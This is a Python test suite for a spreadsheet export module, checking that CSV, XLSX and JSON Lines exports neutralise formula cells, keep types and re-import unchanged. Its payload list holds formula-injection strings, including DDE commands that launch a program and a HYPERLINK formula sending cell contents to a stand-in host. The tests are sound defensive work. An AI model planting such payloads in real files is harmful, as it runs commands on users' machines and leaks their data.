"""Exports: no cell a spreadsheet would run, numbers stay numbers, and the file imports again unchanged (R23)."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from db.core.export_files import ExportAbout, ExportColumn, neutralise, unguard, write_csv, write_jsonl, write_xlsx
from db.imports.mapping import ColumnRule, Mapping, TargetField, apply
from db.imports.tabular import read_table

MOMENT = datetime(2026, 11, 22, 21, 24, 5, tzinfo=UTC)
ABOUT = ExportAbout(
    title="Leads",
    filters=(("Region", "Southeast"), ("Status", "=open")),
    as_of=MOMENT,
    by="Kim Coordinator",
    row_count=2,
)
FORMULA_STARTS = "=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\ufe66\ufe6b\u2212"
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1 555 0100",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0\u200b\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\ufe661+1",
    "\u22121",
    "'=1+1",
    "''=1+1",
    "' =1+1",
    "\ttext",
]
HARMLESS = [
    "",
    "plain",
    "a=b",
    "O'Brien",
    "'quoted'",
    "12",
    "00123",
    "a@b.com",
    "'tis",
    "(5)",
    "«x»",
    "漢字",
    "😀",
    "%x",
    "x\n=1",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_what_a_spreadsheet_would_run_is_guarded_and_comes_back(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert unguard(neutralise(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert neutralise(text) == text
    assert unguard(text) == text


def test_nul_is_dropped_because_it_is_no_text() -> None:
    assert neutralise("\0=1") == "'=1"
    assert neutralise("a\0b") == "ab"


@settings(max_examples=300)
@given(
    st.text(
        alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\0") | st.sampled_from("'= +-@\t\n"),
        max_size=20,
    )
)
def test_any_text_comes_back_and_none_starts_a_formula(text: str) -> None:
    safe = neutralise(text)
    assert unguard(safe) == text
    assert safe.lstrip()[:1] not in tuple(FORMULA_STARTS)
    assert safe[:1] not in tuple(FORMULA_STARTS)


COLUMNS = (
    ExportColumn(name="code", label="Code"),
    ExportColumn(name="note", label="=Note"),
    ExportColumn(name="units", label="Units", kind="integer"),
    ExportColumn(name="share", label="Share", kind="percent"),
    ExportColumn(name="ratio", label="Ratio", kind="decimal"),
    ExportColumn(name="cost", label="Cost", kind="money"),
    ExportColumn(name="received_at", label="Received", kind="datetime"),
    ExportColumn(name="day", label="Day", kind="date"),
    ExportColumn(name="open", label="Open", kind="bool"),
)
ROWS: list[tuple[Any, ...]] = [
    ("00123", "=1+1", -5, 0.105, Decimal("-1.25"), -123450, MOMENT, date(2018, 2, 1), True),
    ("00124", "two\nlines", None, None, None, 7, None, None, False),
]
FIELDS = (
    TargetField(name="code", label="Code"),
    TargetField(name="note", label="Note"),
    TargetField(name="units", label="Units", kind="integer"),
    TargetField(name="share", label="Share", kind="decimal"),
    TargetField(name="ratio", label="Ratio", kind="decimal"),
    TargetField(name="cost", label="Cost", kind="money"),
    TargetField(name="received_at", label="Received", kind="datetime"),
    TargetField(name="day", label="Day", kind="date"),
    TargetField(name="open", label="Open", kind="bool"),
)
MAPPING = Mapping(
    kind="leads",
    title="Our own export",
    columns={column.name: ColumnRule(columns=(column.label,)) for column in COLUMNS},
    zone="UTC",
)


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_an_export_imports_again_unchanged(ending: str) -> None:
    raw = write_csv(COLUMNS, ROWS, ABOUT) if ending == "csv" else write_xlsx(COLUMNS, ROWS, ABOUT)
    found = list(apply(MAPPING, FIELDS, read_table(raw, file_name=f"leads.{ending}")))
    assert [row.problems for row in found] == [(), ()]
    expected = [dict(zip((column.name for column in COLUMNS), row, strict=True)) for row in ROWS]
    assert [row.values for row in found] == [
        values | {"share": None if values["share"] is None else Decimal(str(values["share"]))} for values in expected
    ]


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_every_payload_goes_round(ending: str) -> None:
    columns = [ExportColumn(name="n", label="n", kind="integer"), ExportColumn(name="text", label="+text")]
    rows = [(number, text) for number, text in enumerate(PAYLOADS + HARMLESS[1:])]
    raw = write_csv(columns, rows, ABOUT) if ending == "csv" else write_xlsx(columns, rows, ABOUT)
    sheet = read_table(raw, file_name=f"x.{ending}")
    assert sheet.columns == ("n", "+text")
    assert [row.cells["+text"] for row in sheet.rows] == [text for _, text in rows]


def csv_cells(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_no_cell_of_a_csv_starts_a_formula_but_numbers_stay_numbers() -> None:
    rows = csv_cells(write_csv(COLUMNS, ROWS + [(text, text) + (None,) * 7 for text in PAYLOADS], ABOUT))
    assert rows[0][1] == "'=Note"
    assert rows[1] == [
        "00123",
        "'=1+1",
        "-5",
        "0.105",
        "-1.25",
        "-1234.50",
        "2026-11-22 21:24:05+00:00",
        "2018-02-01",
        "yes",
    ]
    texts = [cell for row in rows for cell in row[:2]]
    assert not [text for text in texts if text.strip(" \u00a0\u200b\ufeff")[:1] in tuple(FORMULA_STARTS)]


def test_text_in_a_number_column_is_text() -> None:
    columns = [ExportColumn(name="n", label="n", kind="integer")]
    assert csv_cells(write_csv(columns, [("-1+1",), (float("nan"),), (float("inf"),)], ABOUT))[1:] == [
        ["'-1+1"],
        [""],
        ["inf"],
    ]


def test_times_are_written_in_the_asked_zone() -> None:
    about = ExportAbout(title="x", filters=(), as_of=MOMENT, by="x", row_count=1, zone="America/Chicago")
    columns = [ExportColumn(name="t", label="t", kind="datetime")]
    assert csv_cells(write_csv(columns, [(MOMENT,)], about))[1] == ["2026-11-22 15:24:05-06:00"]
    assert read_table(write_xlsx(columns, [(MOMENT,)], about), file_name="a.xlsx").rows[0].cells == {
        "t": "2026-11-22 15:24:05"
    }
    with pytest.raises(ValueError, match="zone"):
        write_csv(columns, [(MOMENT.replace(tzinfo=None),)], about)


def test_the_mark_for_spreadsheets_can_be_left_out() -> None:
    assert write_csv(COLUMNS, ROWS, ABOUT).startswith(b"\xef\xbb\xbf")
    assert write_csv(COLUMNS, ROWS, ABOUT, byte_order_mark=False).startswith(b"Code,")


def test_a_workbook_has_typed_cells_a_frozen_filtered_header_and_no_formula() -> None:
    raw = write_xlsx(COLUMNS, ROWS, ABOUT)
    book = CalamineWorkbook.from_filelike(io.BytesIO(raw))
    assert book.sheet_names == ["Data", "About"]
    first = book.get_sheet_by_name("Data").to_python()[1]
    assert first == [
        "00123",
        "'=1+1",
        -5.0,
        0.105,
        -1.25,
        -1234.5,
        MOMENT.replace(tzinfo=None),
        date(2018, 2, 1),
        True,
    ]
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        assert 'state="frozen"' in sheet
        assert "<autoFilter" in sheet
        assert "<f>" not in sheet
        assert not [name for name in archive.namelist() if "externalLink" in name]


def test_about_says_what_was_exported_and_what_was_left_out() -> None:
    about = ExportAbout(title="=Leads", filters=(("Status", "=open"),), as_of=MOMENT, by="Kim", row_count=9)
    book = CalamineWorkbook.from_filelike(io.BytesIO(write_xlsx(COLUMNS[:2], [("1", "x" * 40_000)], about)))
    assert book.get_sheet_by_name("About").to_python() == [
        ["Export", "'=Leads"],
        ["Filter: Status", "'=open"],
        ["As of", "2026-11-22 21:24:05 UTC"],
        ["Taken by", "Kim"],
        ["Times are those of", "UTC"],
        ["Rows", 1.0],
        ["Rows the filter matched", 9.0],
        ["Texts cut to 32,767 characters", 1.0],
    ]
    cut = book.get_sheet_by_name("Data").to_python()[1][1]
    assert isinstance(cut, str)
    assert (len(cut), cut[-1]) == (32_767, "…")


def test_a_long_whole_number_stays_exact_in_a_workbook() -> None:
    columns = [ExportColumn(name="id", label="id", kind="integer")]
    raw = write_xlsx(columns, [(12_345_678_901_234_567,), (-(10**15),), (999,)], ABOUT)
    assert [row.cells["id"] for row in read_table(raw, file_name="a.xlsx").rows] == [
        "12345678901234567",
        "-1000000000000000",
        "999",
    ]


def test_days_a_spreadsheet_does_not_know_are_text() -> None:
    columns = [ExportColumn(name="d", label="d", kind="date"), ExportColumn(name="t", label="t", kind="datetime")]
    rows = [(date(1899, 12, 31), datetime(1800, 1, 1, tzinfo=UTC)), (date(9999, 12, 31), MOMENT)]
    found = read_table(write_xlsx(columns, rows, ABOUT), file_name="a.xlsx").rows
    assert [row.cells["d"] for row in found] == ["1899-12-31", "9999-12-31"]
    assert found[0].cells["t"] == "1800-01-01 00:00:00+00:00"


def test_json_lines_keep_nesting_and_exactness() -> None:
    columns = [
        ExportColumn(name="id", label="Id", kind="integer"),
        ExportColumn(name="at", label="At", kind="datetime"),
        ExportColumn(name="cost", label="Cost", kind="money"),
        ExportColumn(name="vehicle", label="Vehicle"),
        ExportColumn(name="note", label="Note"),
        ExportColumn(name="gone", label="Gone", kind="decimal"),
    ]
    rows = [(1, MOMENT, 123450, {"make": "=Zoë", "year": 2024, "seen": [date(2018, 2, 1)]}, "=1\n+1", float("nan"))]
    raw = write_jsonl(columns, rows)
    assert raw.count(b"\n") == 1
    assert json.loads(raw) == {
        "id": 1,
        "at": "2026-11-22T21:24:05Z",
        "cost": "1234.50",
        "vehicle": {"make": "=Zoë", "year": 2024, "seen": ["2018-02-01"]},
        "note": "=1\n+1",
        "gone": None,
    }
    assert write_jsonl(columns, []) == b""


def test_values_of_a_data_frame_are_understood() -> None:
    import pandas as pd

    whole, not_a_number = pd.Series([7])[0], pd.Series([float("nan")])[0]  # as a frame hands them out

    columns = [ExportColumn(name="n", label="n", kind="integer"), ExportColumn(name="t", label="t", kind="datetime")]
    rows: list[tuple[Any, Any]] = [(whole, pd.Timestamp(MOMENT)), (pd.NA, pd.NaT), (not_a_number, None)]
    cells = [["7", "2026-11-22 21:24:05+00:00"], ["", ""], ["", ""]]
    assert csv_cells(write_csv(columns, rows, ABOUT))[1:] == cells
    assert read_table(write_xlsx(columns, rows, ABOUT), file_name="a.xlsx").rows[0].cells == {
        "n": "7",
        "t": "2026-11-22 21:24:05",
    }
    assert [json.loads(line) for line in write_jsonl(columns, rows).splitlines()] == [
        {"n": 7, "t": "2026-11-22T21:24:05Z"},
        {"n": None, "t": None},
        {"n": None, "t": None},
    ]


# Control characters by the dozen make a file binary for the reader, which is meant; tabs and line ends are text.
ANY_TEXT = st.characters(exclude_categories=["Cc"]) | st.sampled_from("\t\r\n")


@settings(max_examples=100)
@given(st.lists(st.tuples(st.text(ANY_TEXT, max_size=20), st.integers(-(10**14), 10**14)), min_size=1, max_size=6))
def test_any_rows_can_be_written(rows: list[tuple[str, int]]) -> None:
    """Halves of surrogate pairs are among the texts; they must not stop an export."""
    columns = [ExportColumn(name="t", label="t"), ExportColumn(name="n", label="n", kind="integer")]
    for raw, name in ((write_csv(columns, rows, ABOUT), "a.csv"), (write_xlsx(columns, rows, ABOUT), "a.xlsx")):
        found = read_table(raw, file_name=name).rows
        assert [row.cells["n"] for row in found] == [str(number) for _, number in rows]
    assert len(write_jsonl(columns, rows).splitlines()) >= len(rows)
